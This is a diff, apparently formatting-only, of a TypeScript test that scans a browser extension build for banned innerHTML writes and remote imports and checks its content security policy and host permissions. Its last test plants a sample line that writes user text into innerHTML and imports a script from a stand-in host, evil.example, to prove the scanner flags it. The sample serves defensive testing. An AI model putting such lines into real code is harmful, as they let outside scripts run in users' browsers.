@@ -27,12 +27,22 @@ const BANNED: { name: string; re: RegExp }[] = [
  * Both are matched by their exact minified shape, so any other innerHTML write still fails.
  */
 const ALLOWED: { name: string; re: RegExp; why: string }[] = [
-  { name: 'innerHTML assignment', re: /\.innerHTML=[\w$]+\.__html\b/g, why: 'Preact: applies dangerouslySetInnerHTML (banned in our source by ESLint)' },
-  { name: 'innerHTML assignment', re: /\.innerHTML=(?:``|""|'')/g, why: 'Preact: clears a node (constant empty string)' },
+  {
+    name: 'innerHTML assignment',
+    re: /\.innerHTML=[\w$]+\.__html\b/g,
+    why: 'Preact: applies dangerouslySetInnerHTML (banned in our source by ESLint)',
+  },
+  {
+    name: 'innerHTML assignment',
+    re: /\.innerHTML=(?:``|""|'')/g,
+    why: 'Preact: clears a node (constant empty string)',
+  },
 ];
 
 function files(dir: string): string[] {
-  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(path.join(dir, e.name)) : [path.join(dir, e.name)]));
+  return readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
+    e.isDirectory() ? files(path.join(dir, e.name)) : [path.join(dir, e.name)],
+  );
 }
 
 for (const build of BUILDS) {
@@ -46,10 +56,14 @@ for (const build of BUILDS) {
     for (const file of scanned) {
       const text = readFileSync(file, 'utf8');
       for (const { name, re } of BANNED) {
-        const allowedAt = new Set(ALLOWED.filter((a) => a.name === name).flatMap((a) => [...text.matchAll(a.re)].map((m) => m.index)));
+        const allowedAt = new Set(
+          ALLOWED.filter((a) => a.name === name).flatMap((a) => [...text.matchAll(a.re)].map((m) => m.index)),
+        );
         for (const m of text.matchAll(re)) {
           if (allowedAt.has(m.index)) continue;
-          findings.push(`${path.relative(dist, file)}: ${name}: …${text.slice(Math.max(0, m.index - 60), m.index + 60)}…`);
+          findings.push(
+            `${path.relative(dist, file)}: ${name}: …${text.slice(Math.max(0, m.index - 60), m.index + 60)}…`,
+          );
         }
       }
     }
@@ -64,7 +78,11 @@ for (const build of BUILDS) {
     };
     const csp = manifest.content_security_policy?.extension_pages ?? '';
     const directives = Object.fromEntries(
-      csp.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...values]) => [name, values]),
+      csp
+        .split(';')
+        .map((d) => d.trim().split(/\s+/))
+        .filter((d) => d[0])
+        .map(([name, ...values]) => [name, values]),
     ) as Record<string, string[]>;
     expect(directives['script-src']).toEqual(["'self'"]);
     expect(directives['object-src']).toEqual(["'none'"]);
@@ -73,7 +91,8 @@ for (const build of BUILDS) {
     expect(csp).not.toMatch(/unsafe-(eval|inline|hashes)|wasm-unsafe-eval|https?:|\*/);
     expect(manifest.sandbox).toBeUndefined();
     // Least privilege: only the e2e variant may reach the loopback fixture pages.
-    if (build === 'chrome-test') expect(manifest.host_permissions).toEqual(['http://127.0.0.1/*', 'http://localhost/*']);
+    if (build === 'chrome-test')
+      expect(manifest.host_permissions).toEqual(['http://127.0.0.1/*', 'http://localhost/*']);
     else expect(manifest.host_permissions).toBeUndefined();
   });
 }
@@ -82,5 +101,8 @@ test('the allowlist is exact: a planted innerHTML write or remote import would b
   const planted = 'el.innerHTML=userText;import("https://evil.example/x.js");el.innerHTML=f.__html;';
   const hits = BANNED.flatMap(({ name, re }) => [...planted.matchAll(re)].map((m) => ({ name, index: m.index })));
   const allowed = new Set(ALLOWED.flatMap((a) => [...planted.matchAll(a.re)].map((m) => m.index)));
-  expect(hits.filter((h) => !allowed.has(h.index)).map((h) => h.name)).toEqual(['innerHTML assignment', 'remote import()']);
+  expect(hits.filter((h) => !allowed.has(h.index)).map((h) => h.name)).toEqual([
+    'innerHTML assignment',
+    'remote import()',
+  ]);
 });
